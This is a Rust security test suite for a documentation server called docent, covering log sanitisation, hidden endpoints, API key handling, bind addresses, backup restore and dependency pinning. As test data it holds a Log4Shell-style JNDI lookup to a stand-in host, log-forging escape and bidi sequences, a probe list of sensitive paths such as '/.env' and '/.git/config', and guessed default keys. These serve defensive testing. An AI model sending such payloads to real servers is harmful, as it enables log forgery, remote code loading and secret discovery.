//! K10 to K17: logs, settings, files and what docent is built from.

use std::path::Path;
use std::sync::Arc;

use docent::auth::{Denied, Keys};
use docent::store::SqliteStore;
use serde_json::{Value, json};

use super::keys::Closed;
use super::oracle::{Oracle, Process};
use crate::commands::served::{Served, manual, serve};
use crate::commands::{errors, fails};
use crate::harness::{docent, write};
use crate::http::request;

/// A key of the docs in a folder.
fn key(dir: &Path) -> String {
    let mut command = docent();
    command.current_dir(dir).args(["key", "create", "--name", "k", "--data-dir", "data"]);
    let output = command.output().expect("docent runs");
    String::from_utf8(output.stdout).expect("text").trim_end().to_owned()
}

#[test]
fn k10_what_callers_send_forges_no_line_of_the_log_and_stays_out_of_it() {
    for format in ["json", "human"] {
        let (_dir, path) = manual();
        let good = key(&path);
        let mut command = docent();
        command.current_dir(&path).args(["serve", "docs", "--data-dir", "data"]);
        command.args(["--listen", "127.0.0.1:0", "--access", "keys", "--log", format]);
        command.env("RUST_LOG", "warn,docent=debug,rmcp=error,tantivy=error");
        let mut process = Process::run(command);
        let wrong = docent::auth::Secret::new().expect("a key");
        let agent = format!("a\u{1b}[31m${{jndi:ldap://evil.example}}{}", "u".repeat(10_000));
        let forged = "2026-01-01T00:00:00.000000Z  INFO forged";
        for (line, headers, body) in [
            ("POST /mcp", format!("User-Agent: {agent}\r\n"), String::new()),
            (
                "POST /mcp",
                format!("User-Agent: {}\r\n", agent.replace('\u{1b}', "")),
                String::new(),
            ),
            ("POST /mcp", format!("Authorization: Bearer {}\r\n", wrong.reveal()), String::new()),
            ("POST /mcp", format!("Authorization: Bearer x\u{9b}31m{forged}\r\n"), String::new()),
            ("POST /mcp", format!("Origin: http://x\u{202e}\u{9b}{forged}\r\n"), String::new()),
            ("POST /mcp", format!("Mcp-Method: a\u{85}{forged}\r\n"), "{".into()),
            (
                &format!("GET /%0a{}?key={good}", forged.replace(' ', "%20")),
                String::new(),
                String::new(),
            ),
            ("GET /docs/%1b%5b31m", format!("Authorization: Bearer {good}\r\n"), String::new()),
            (
                "POST /mcp",
                format!("Authorization: Bearer {good}\r\n"),
                json!({"jsonrpc": "2.0", "id": "\n\u{1b}[31m", "method": "tools/call", "params": {
                    "name": "search", "arguments": {"query": format!("hunter2\n{forged}")}}})
                .to_string(),
            ),
            (
                "POST /mcp",
                format!("Authorization: Bearer {good}\r\n"),
                json!({"jsonrpc": "2.0", "id": 1, "method": format!("hunter2\n{forged}")})
                    .to_string(),
            ),
        ] {
            let answer = process.send(
                format!(
                    "{line} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{headers}\
                     Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                )
                .as_bytes(),
            );
            assert!(answer.starts_with("HTTP/1.1 "), "{line}: {answer}");
            assert!(!answer.starts_with("HTTP/1.1 5"), "{line}: {answer}");
        }
        // What documents hold reaches the log as well: a file that cannot be read is named.
        write(
            &path,
            "docs/odd.md",
            "---\ntitle: [\u{1b}[31m\n2026-01-01T00:00:00Z forged\n---\nx\n",
        );
        process.served.hears("docs changed");
        process.served.signal("TERM");
        process.served.hears("shutting down");
        assert_eq!(process.served.ends(), Some(0));
        let log: Vec<String> = process
            .served
            .said()
            .into_iter()
            .skip_while(|it| !it.contains("what was asked"))
            .collect();
        assert!(log.iter().any(|line| line.contains("a key was refused")), "{log:?}");
        for line in &log[1..] {
            assert!(!line.chars().any(|c| c.is_control() || c == '\u{202e}'), "{line:?}");
            assert!(line.len() < 2_000 && !line.starts_with(forged), "{line}");
            for secret in [&good[17..], wrong.reveal(), "hunter2", "jndi"] {
                assert!(!line.contains(secret), "{line}");
            }
            if format == "json" {
                serde_json::from_str::<Value>(line).unwrap_or_else(|_| panic!("no JSON: {line}"));
            }
        }
    }
}

/// What monitoring, and those who look for it, ask for.
const PRIVATE: [&str; 14] = [
    "/metrics",
    "/debug",
    "/debug/pprof/",
    "/debug/vars",
    "/admin",
    "/actuator/env",
    "/status",
    "/server-status",
    "/config",
    "/docent.toml",
    "/.env",
    "/.git/config",
    "/state.sqlite",
    "/healthz/",
];

#[tokio::test]
async fn k11_nothing_of_the_inside_is_told_to_the_outside() {
    let (oracle, closed) = (Oracle::new(), Closed::new());
    let get = |path: &str| {
        let asked = request("GET", path).header("accept", "application/json");
        asked.body(axum::body::Body::empty()).expect("a request")
    };
    for path in PRIVATE {
        assert_eq!(oracle.ask(get(path)).await.status, 404, "{path}");
        assert_eq!(closed.oracle.ask(get(path)).await.status, 401, "{path}");
    }
    for (path, text) in [("/healthz", "ok"), ("/readyz", "{\"ready\":true,\"current\":true}")] {
        let answer = closed.oracle.ask(get(path)).await;
        assert_eq!((answer.status.as_u16(), answer.text.as_str()), (200, text));
        assert_eq!(answer.header("cache-control"), "no-store");
        assert_eq!(answer.header("server"), "");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn k11_one_port_is_listened_on_and_no_other() {
    let (_dir, path) = manual();
    let process = Process::start(&path);
    let fds = std::fs::read_dir(format!("/proc/{}/fd", process.served.child.id()));
    let sockets: Vec<String> = fds
        .expect("its descriptors")
        .flatten()
        .filter_map(|fd| std::fs::read_link(fd.path()).ok()?.to_str().map(str::to_owned))
        .filter_map(|name| Some(name.strip_prefix("socket:[")?.strip_suffix(']')?.to_owned()))
        .collect();
    let mut listening = 0;
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        let table = std::fs::read_to_string(table).unwrap_or_default();
        for line in table.lines().skip(1) {
            let words: Vec<&str> = line.split_whitespace().collect();
            // 0A: listens. Another process may have the same number for another thing.
            let ours = words.len() > 9 && sockets.iter().any(|inode| inode == words[9]);
            listening += usize::from(ours && words[3] == "0A");
        }
    }
    assert_eq!(listening, 1);
}

#[test]
fn k12_no_secret_is_there_by_default_and_none_is_for_others_to_read() {
    let (_dir, path) = manual();
    // A setting that nobody knows is no setting.
    let collections = "[[collections]]\npath = \"docs\"\n";
    for setting in
        ["secret = \"x\"", "keys = [\"x\"]", "[limits]\nkye = \"1/hour\"", "acess = \"keys\""]
    {
        write(&path, "docent.toml", &format!("{setting}\n{collections}"));
        let output = docent().current_dir(&path).arg("config").output().expect("docent runs");
        assert!(!output.status.success(), "{setting}");
        assert!(errors(&output).contains("unknown field"), "{setting}: {}", errors(&output));
    }
    std::fs::remove_file(path.join("docent.toml")).expect("it goes");
    // Behind a door without keys there is no way in.
    let mut command = serve(&path);
    command.args(["--access", "keys"]);
    let mut process = Process::run(command);
    for key in ["", "dk_live_", "admin", "changeme", "docent", "null", "test"] {
        let answer = process.send(
            format!(
                "POST /mcp HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {key}\r\n\
                 Content-Type: application/json\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        );
        assert!(answer.starts_with("HTTP/1.1 401"), "{key}: {answer}");
    }
    assert!(process.survives(&[]).contains("there is no key yet"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let state = path.join("data/state.sqlite");
        let mode = || state.metadata().expect("the state").permissions().mode() & 0o777;
        assert_eq!(mode(), 0o600);
        // Opened up by a careless hand, it is closed again at the next start.
        std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o644)).expect("its mode");
        key(&path);
        assert_eq!(mode(), 0o600);
    }
    // What settings are in force can be shown to anybody.
    let mut config = docent();
    config.current_dir(&path).args(["config", "docs", "--data-dir", "data"]);
    let shown = String::from_utf8(config.output().expect("docent runs").stdout).expect("text");
    assert!(!shown.contains("dk_live_"), "{shown}");
}

#[test]
fn k13_who_says_nothing_about_access_is_reached_from_this_machine_only() {
    let (_dir, path) = manual();
    let collections = "[[collections]]\npath = \"docs\"\n";
    for listen in ["0.0.0.0:0", "[::]:0", "192.0.2.1:0", "[::ffff:0.0.0.0]:0"] {
        let mut by_flag = docent();
        by_flag.current_dir(&path).args([
            "serve",
            "docs",
            "--data-dir",
            "data",
            "--listen",
            listen,
        ]);
        let mut by_variable = docent();
        by_variable.current_dir(&path).args(["serve", "docs", "--data-dir", "data"]);
        by_variable.env("DOCENT_LISTEN", listen);
        write(&path, "docent.toml", &format!("listen = \"{listen}\"\n{collections}"));
        let mut by_file = docent();
        by_file.current_dir(&path).arg("serve");
        for mut command in [by_flag, by_variable, by_file] {
            let said = fails(&mut command);
            assert!(said.contains("can be reached from other machines"), "{listen}: {said}");
            assert!(said.contains("--access keys"), "{listen}: {said}");
        }
    }
    std::fs::remove_file(path.join("docent.toml")).expect("it goes");
    assert!(!path.join("data").exists(), "something was begun");
    for access in ["keys", "open"] {
        let mut command = docent();
        command.current_dir(&path).args(["serve", "docs", "--data-dir", "data"]);
        Served::run({
            command.args(["--listen", "0.0.0.0:0", "--access", access]);
            command
        });
    }
}

#[test]
fn k15_a_restored_backup_brings_keys_back_until_they_are_revoked_again() {
    let (dir, backup) =
        (tempfile::tempdir().expect("a folder"), tempfile::tempdir().expect("a folder"));
    let open =
        || Keys::open(Arc::new(SqliteStore::open(dir.path()).expect("a store"))).expect("keys");
    let copy = |from: &Path, to: &Path| {
        for entry in std::fs::read_dir(to).expect("a folder").flatten() {
            std::fs::remove_file(entry.path()).expect("it goes");
        }
        for entry in std::fs::read_dir(from).expect("a folder").flatten() {
            std::fs::copy(entry.path(), to.join(entry.file_name())).expect("it is copied");
        }
    };
    let (secret, kept) = open().create("k", None, None, 100).expect("a key");
    copy(dir.path(), backup.path());
    open().revoke(&kept.id, 200).expect("it is there");
    let check = || open().check(secret.reveal(), 300).expect("the store").err();
    assert_eq!(check(), Some(Denied::Revoked));
    // The backup knows nothing of it, and nothing else does: whoever restores one has to look.
    copy(backup.path(), dir.path());
    assert_eq!(check(), None);
    open().revoke(&kept.id, 400).expect("it is there");
    assert_eq!(check(), Some(Denied::Revoked));
    let manual = include_str!("../../../corpus/keys.md");
    assert!(manual.contains("restore a backup"), "the manual does not warn of it");
}

#[test]
fn k17_everything_built_in_is_pinned_and_from_one_registry() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let read = |path: &str| std::fs::read_to_string(root.join(path)).expect(path);
    let lock: toml::Table = read("Cargo.lock").parse().expect("TOML");
    let packages = lock["package"].as_array().expect("packages");
    assert!(packages.len() > 100, "{}", packages.len());
    for package in packages {
        let text = |name: &str| package.get(name).and_then(toml::Value::as_str);
        if text("name") == Some("docent") {
            continue;
        }
        let registry = "registry+https://github.com/rust-lang/crates.io-index";
        assert_eq!(text("source"), Some(registry), "{package}");
        assert!(text("checksum").is_some_and(|sum| sum.len() == 64), "{package}");
    }
    let deny: toml::Table = read(".deny.toml").parse().expect("TOML");
    for (table, key) in [
        ("sources", "unknown-registry"),
        ("sources", "unknown-git"),
        ("bans", "wildcards"),
        ("advisories", "yanked"),
    ] {
        assert_eq!(deny[table][key].as_str(), Some("deny"), "{table}.{key}");
    }
    // Actions of the gate, wherever it runs, are named by hash: a tag can be moved.
    for entry in std::fs::read_dir(root.join(".github/workflows")).into_iter().flatten().flatten() {
        let text = std::fs::read_to_string(entry.path()).expect("a workflow");
        for line in text.lines().filter_map(|line| line.split_once("uses: ")) {
            let action = line.1.split_whitespace().next().unwrap_or_default();
            let pinned = action.split_once('@').is_some_and(|(_, hash)| {
                hash.len() == 40 && hash.bytes().all(|c| c.is_ascii_hexdigit())
            });
            assert!(pinned || action.starts_with("./"), "{action} is not pinned by hash");
        }
    }
}
